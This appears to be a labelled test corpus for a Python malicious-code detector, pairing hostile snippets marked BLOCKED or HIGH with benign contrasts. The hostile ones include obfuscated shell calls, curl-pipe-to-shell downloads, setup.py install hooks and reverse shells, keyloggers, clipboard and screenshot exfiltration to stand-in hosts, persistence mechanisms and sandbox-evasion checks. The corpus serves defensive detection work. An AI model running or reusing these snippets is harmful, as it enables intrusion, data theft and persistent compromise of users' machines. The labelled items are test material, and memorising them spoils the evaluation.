#@ getattr_import_system BLOCKED t
getattr(__import__("o" + "s"), "sys" + "tem")("curl -s https://198.51.100.7/x | sh")
#@ builtins_eval_built BLOCKED t
import builtins
f = getattr(builtins, "".join(["e", "v", "a", "l"]))
f("__import__('os').system('id')")
#@ globals_lookup_exec BLOCKED v
g = globals()["__builtins__"]
runner = g["ex" + "ec"] if isinstance(g, dict) else getattr(g, "ex" + "ec")
runner("import os; os.system('whoami')")
#@ importlib_reversed_name BLOCKED t
import importlib
mod = importlib.import_module("so"[::-1])
getattr(mod, "metsys"[::-1])("uname -a")
#@ vars_module_popen BLOCKED t
import os
call = vars(os)["po" + "pen"]
print(call("cat /etc/passwd").read())
#@ chr_built_command BLOCKED v
import os
cmd = "".join(chr(c) for c in [105, 100, 32, 59, 32, 119, 104, 111, 97, 109, 105])
getattr(os, "system")(cmd)
#@ compile_exec_joined BLOCKED t
parts = ["imp", "ort o", "s; o", "s.sys", "tem('id')"]
exec(compile("".join(parts), "<x>", "exec"))
#@ marshal_code_exec BLOCKED t
import marshal, base64
code = marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAACAAAAQAAAAHMMAAAAZQBkAIMBAQBkAVMAKQJ6AmhpTikB2gVwcmludKkAcgIAAAByAgAAAPoBeNoIPG1vZHVsZT4BAAAA8wAAAAA="))
exec(code)
#@ pickle_embedded_blob BLOCKED v
import pickle, base64
blob = b"gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="
pickle.loads(base64.b64decode(blob))
#@ clipboard_pyperclip_sent BLOCKED t
import pyperclip, requests
requests.post("https://collect.example.com/c", data={"c": pyperclip.paste()})
#@ clipboard_tkinter_loop BLOCKED t
import time, tkinter, requests
root = tkinter.Tk()
root.withdraw()
seen = ""
while True:
    text = root.clipboard_get()
    if text != seen:
        requests.post("https://collect.example.com/clip", data=text)
        seen = text
    time.sleep(2)
#@ clipboard_read_alone HIGH v
import pyperclip
print("clipboard has", len(pyperclip.paste()), "characters")
#@ screenshot_pil_upload BLOCKED t
import io, requests
from PIL import ImageGrab
buf = io.BytesIO()
ImageGrab.grab().save(buf, "PNG")
requests.post("https://collect.example.com/s", files={"s": buf.getvalue()})
#@ screenshot_mss_loop HIGH t
import time, mss
with mss.mss() as sct:
    for i in range(100):
        sct.shot(output=f"/tmp/.cache/s{i}.png")
        time.sleep(30)
#@ pyautogui_screenshot_telegram BLOCKED v
import pyautogui, requests
img = pyautogui.screenshot("shot.png")
requests.post("https://api.telegram.org/bot123456:ABC/sendPhoto", data={"chat_id": "42"}, files={"photo": open("shot.png", "rb")})
#@ pynput_keylogger BLOCKED t
from pynput import keyboard

def on_press(key):
    with open("/tmp/.k", "a") as f:
        f.write(str(key))

with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
#@ keyboard_module_record BLOCKED t
import keyboard, requests
events = keyboard.record(until="enter")
requests.post("https://collect.example.com/k", json=[e.name for e in events])
#@ discord_webhook_env BLOCKED v
import os, requests
requests.post("https://discord.com/api/webhooks/123/abc", json={"content": str(dict(os.environ))})
#@ pastebin_raw_exec BLOCKED t
import urllib.request
exec(urllib.request.urlopen("https://pastebin.com/raw/Ab12Cd34").read())
#@ shortener_download HIGH t
import requests
r = requests.get("https://bit.ly/3xYz9Qp", allow_redirects=True)
open("update.bin", "wb").write(r.content)
#@ decimal_ip_url HIGH v
import requests
requests.get("http://3325256967/payload", timeout=5)
#@ dyndns_connect HIGH t
import socket
s = socket.create_connection(("updates.duckdns.org", 443))
s.sendall(b"hello")
#@ ngrok_tcp_tunnel HIGH t
import socket
sock = socket.create_connection(("0.tcp.ngrok.io", 17231))
print(sock.recv(100))
#@ transfer_sh_upload_hosts BLOCKED v
import requests
requests.put("https://transfer.sh/hosts.txt", data=open("/etc/hosts", "rb"))
#@ setup_py_install_hook BLOCKED t
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://198.51.100.7/i.sh | sh")

setup(name="tablefmt", version="1.0", cmdclass={"install": PostInstall})
#@ setup_py_develop_hook_socket BLOCKED t
import socket, subprocess
from setuptools import setup
from setuptools.command.develop import develop

class Hook(develop):
    def run(self):
        s = socket.create_connection(("198.51.100.7", 4444))
        subprocess.Popen(["/bin/sh"], stdin=s, stdout=s, stderr=s)
        develop.run(self)

setup(name="pkg", cmdclass={"develop": Hook})
#@ setup_py_egg_info_hook HIGH v
from setuptools import setup
from setuptools.command.egg_info import egg_info

class Tweak(egg_info):
    def run(self):
        import platform
        open("build_host.txt", "w").write(platform.node())
        egg_info.run(self)

setup(name="pkg2", cmdclass={"egg_info": Tweak})
#@ ctypes_tmp_library HIGH t
import ctypes
lib = ctypes.CDLL("/tmp/.libhelper.so")
lib.init()
#@ ctypes_downloaded_library BLOCKED t
import ctypes, urllib.request
urllib.request.urlretrieve("https://198.51.100.7/l.so", "/dev/shm/l.so")
ctypes.cdll.LoadLibrary("/dev/shm/l.so")
#@ sys_path_tmp_import HIGH v
import sys
sys.path.insert(0, "/tmp/.mods")
import helperlib
helperlib.start()
#@ popen_detached_silent HIGH t
import subprocess
subprocess.Popen(["/tmp/.svc/agent"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, start_new_session=True)
#@ double_fork_daemon_download BLOCKED t
import os, urllib.request
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        urllib.request.urlretrieve("https://198.51.100.7/m", "/tmp/m")
        os.chmod("/tmp/m", 0o755)
        os.execv("/tmp/m", ["m"])
#@ windows_detached_flags HIGH v
import subprocess
subprocess.Popen(["updater.exe", "--quiet"], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)
#@ autostart_desktop_entry BLOCKED t
import os
path = os.path.expanduser("~/.config/autostart/updater.desktop")
os.makedirs(os.path.dirname(path), exist_ok=True)
with open(path, "w") as f:
    f.write("[Desktop Entry]\nType=Application\nExec=/home/user/.local/bin/updater\nHidden=true\n")
#@ systemd_user_unit BLOCKED t
from pathlib import Path
unit = Path.home() / ".config/systemd/user/sync.service"
unit.parent.mkdir(parents=True, exist_ok=True)
unit.write_text("[Service]\nExecStart=%h/.local/bin/sync\n[Install]\nWantedBy=default.target\n")
#@ pth_file_site_packages BLOCKED v
import site, os
target = os.path.join(site.getusersitepackages(), "zz_init.pth")
os.makedirs(os.path.dirname(target), exist_ok=True)
open(target, "w").write("import os; os.system('curl -s https://198.51.100.7/p | sh')\n")
#@ sitecustomize_write BLOCKED t
import site
with open(site.getsitepackages()[0] + "/sitecustomize.py", "a") as f:
    f.write("import telemetry_hook\n")
#@ windows_run_key BLOCKED t
import winreg
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, r"C:\Users\Public\updater.exe")
#@ launch_agent_plist BLOCKED v
import os, plistlib
plist = {"Label": "com.example.helper", "ProgramArguments": ["/Users/Shared/helper"], "RunAtLoad": True}
with open(os.path.expanduser("~/Library/LaunchAgents/com.example.helper.plist"), "wb") as f:
    plistlib.dump(plist, f)
#@ vm_check_gates_payload BLOCKED t
import os, subprocess
product = open("/sys/class/dmi/id/product_name").read().lower()
if not any(v in product for v in ("virtualbox", "vmware", "kvm", "qemu")):
    subprocess.run("curl -s https://198.51.100.7/s | sh", shell=True)
#@ debugger_check_exit HIGH t
import sys
if sys.gettrace() is not None:
    sys.exit(0)
with open("/proc/self/status") as f:
    if any(l.startswith("TracerPid:") and l.split()[1] != "0" for l in f):
        sys.exit(0)
print("starting")
#@ sleep_before_download_exec BLOCKED v
import time, subprocess, urllib.request
time.sleep(900)
urllib.request.urlretrieve("https://198.51.100.7/stage2", "/tmp/stage2")
subprocess.Popen(["sh", "/tmp/stage2"])
#@ cpu_count_sandbox_check HIGH t
import os, sys, multiprocessing
if multiprocessing.cpu_count() < 2 or os.path.exists("/.dockerenv"):
    sys.exit()
import socket
socket.create_connection(("198.51.100.7", 8443))
#@ getattr_plugin_dispatch benign t
class Handlers:
    def on_start(self): return "started"
    def on_stop(self): return "stopped"

def dispatch(obj, event):
    return getattr(obj, f"on_{event}")()

print(dispatch(Handlers(), "start"))
#@ importlib_own_plugins benign t
import importlib
for name in ("csv_export", "json_export"):
    mod = importlib.import_module(f"exporters.{name}")
    mod.run("data.csv")
#@ clipboard_write_result benign v
import pyperclip
result = ", ".join(str(n) for n in range(5))
pyperclip.copy(result)
#@ selenium_screenshot benign t
from selenium import webdriver
driver = webdriver.Firefox()
driver.get("https://example.com")
driver.save_screenshot("page.png")
driver.quit()
#@ slack_webhook_status benign t
import requests
requests.post("https://hooks.slack.com/services/T000/B000/XXXX", json={"text": "nightly job finished"}, timeout=10)
#@ setup_py_plain benign v
from setuptools import setup, find_packages
setup(name="mypkg", version="0.1", packages=find_packages(), install_requires=["requests"])
#@ ctypes_libc benign t
import ctypes, ctypes.util
libc = ctypes.CDLL(ctypes.util.find_library("c"))
print(libc.getpid())
#@ popen_background_server benign t
import subprocess
server = subprocess.Popen(["python3", "-m", "http.server", "8000"])
server.terminate()
#@ sleep_retry_loop benign v
import time, requests
for attempt in range(3):
    r = requests.get("https://api.example.com/status", timeout=5)
    if r.ok:
        break
    time.sleep(2 ** attempt)
#@ docker_check_for_paths benign t
import os
DATA = "/data" if os.path.exists("/.dockerenv") else "./data"
print(DATA)
#@ pickle_own_cache benign t
import pickle
with open("cache.pkl", "rb") as f:
    cache = pickle.load(f)
print(len(cache))
#@ exec_config_template benign v
template = "x = {value}\n"
ns = {}
exec(template.format(value=42), ns)
print(ns["x"])
